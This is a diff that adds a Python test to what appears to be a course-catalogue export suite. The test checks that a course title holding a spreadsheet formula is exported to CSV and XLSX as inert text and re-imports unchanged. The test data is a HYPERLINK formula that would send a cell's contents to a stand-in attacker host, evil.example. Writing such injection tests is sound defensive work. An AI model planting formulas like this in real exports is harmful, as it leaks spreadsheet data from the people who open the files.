@@ -119,3 +119,21 @@ async def test_intake_and_learner_calendars(db: str) -> None:
     place = await BaseText.get(base_id=on_site.base_id, locale="en")
     located = (await intake_calendar(on_site.id, "en", now=NOW)).replace("\r\n ", "")
     assert f"LOCATION:{place.name}" in located
+
+
+async def test_a_formula_in_a_title_is_exported_as_text_and_imports_back(db: str) -> None:
+    await load_demo(10)
+    formula = '=HYPERLINK("https://evil.example/?x="&A2,"open")'
+    text = await CourseText.filter(locale="en").first()
+    text.title = formula
+    await text.save()
+    rows = await catalogue_rows("en")
+    reader = csv.DictReader(io.StringIO(to_csv(rows).decode("utf-8-sig")))
+    assert "'" + formula in {row["title"] for row in reader}
+    sheet = load_workbook(io.BytesIO(to_xlsx(rows))).worksheets[0]
+    column = EXPORT_COLUMNS.index("title") + 1
+    cells = [cell for cell in sheet.iter_rows(min_col=column, max_col=column) if cell[0].value == formula]
+    assert cells and cells[0][0].data_type == "s"
+    for data in (to_csv(rows), to_xlsx(rows)):
+        report = await import_file(data)
+        assert report.ok and report.updated == 0, report.problems[:3]
